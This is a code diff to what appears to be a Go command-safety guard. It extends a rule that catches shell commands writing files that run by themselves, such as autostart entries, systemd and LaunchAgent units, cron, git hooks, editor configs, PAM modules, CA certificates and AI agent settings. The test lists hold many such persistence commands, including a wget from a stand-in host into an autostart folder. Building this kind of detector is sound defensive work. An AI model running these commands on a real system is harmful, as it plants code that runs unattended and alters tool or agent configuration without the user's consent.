@@ -25,14 +25,14 @@ func persistence() table {
 		{
 			Key:    "write to a file that runs at start or login",
 			Harms:  guard.Host,
-			Match:  wrote((*ctx).isStartFile),
+			Match:  match{on: onWrite, test: putsStartFile},
 			Why:    "makes something run whenever a session, an editor, git or another program starts",
 			Remedy: "write it into the work tree and let a person put it there: `cp x ./proposed.conf`",
 			Hits: []string{
 				"cat > ~/.config/systemd/user/b.service", "cp evil.plist ~/Library/LaunchAgents/com.x.plist", "sudo tee /Library/LaunchDaemons/x.plist", "printf x > ~/.config/autostart/x.desktop", "echo x >> /var/spool/cron/crontabs/u",
 				"cp /tmp/hook .git/hooks/post-checkout", "ln -s /tmp/h .git/hooks/post-merge", "echo x > .git/hooks/pre-commit", "echo x >> ~/.vimrc", "echo x >> ~/.tmux.conf", "echo x > ~/.local/lib/python3.12/site-packages/usercustomize.py",
 				"echo x > venv/lib/python3.12/site-packages/zz.pth", "echo x >> ~/.gitconfig", "echo x > ~/.cargo/config.toml", "echo x >> ~/.claude/CLAUDE.md", "mv /tmp/s ~/.claude/settings.json", "cp /tmp/git ~/.local/bin/git",
-				"cp /tmp/pam_x.so /lib/security/", "cp evil.crt /usr/local/share/ca-certificates/", "echo x > ~/.config/pip/pip.conf", "sed -i 's/a/b/' ~/.config/nvim/init.lua", "echo a >> .git/config", "cat > ~/.cursor/mcp.json",
+				"cp /tmp/pam_x.so /lib/security/", "cp evil.crt /usr/local/share/ca-certificates/", "echo x > ~/.config/pip/pip.conf", "sed -i 's/a/b/' ~/.config/nvim/init.lua", "echo a >> .git/config", "cat > ~/.cursor/mcp.json", "wget -P ~/.config/autostart x.example/x.desktop",
 			},
 			Passes: []string{
 				"cp x ./proposed.conf", "cat ~/.vimrc", "echo 'npm test' > .husky/pre-commit", "go build -o ~/.local/bin/mytool .", "cp tool /usr/local/bin/tool", "echo x > .vscode/settings.json", "cp ~/.tmux.conf ./tmux.conf",
@@ -151,6 +151,30 @@ func schedules(c *ctx, i int) (span, bool) {
 		for _, w := range args[1:] {
 			if strings.EqualFold(w.Text, "/create") || strings.EqualFold(w.Text, "/change") {
 				return at(w), true
+			}
+		}
+	}
+	return span{}, false
+}
+
+// putsStartFile holds when a file is written from which something runs by itself.
+func putsStartFile(c *ctx, i int) (span, bool) {
+	if s, ok := c.find(c.writes(i), (*ctx).isStartFile); ok {
+		return s, true
+	}
+	if c.name(i) != "wget" && c.name(i) != "curl" {
+		return span{}, false
+	}
+	for _, o := range c.line(i).opts {
+		if !o.has || !o.is("-P", "--directory-prefix", "--output-dir") {
+			continue
+		}
+		for _, w := range c.operands(i) {
+			in := o.value
+			in.Text = strings.TrimRight(o.value.Text, "/") + "/" + base(w.Text)
+			in.Holes = append(o.value.Holes[:len(o.value.Holes):len(o.value.Holes)], w.Slice(len(w.Text)-len(base(w.Text))).Holes...)
+			if _, ok := c.find(c.targets(in, c.cmd(i).Dir), (*ctx).isStartFile); ok {
+				return at(o.value), true
 			}
 		}
 	}
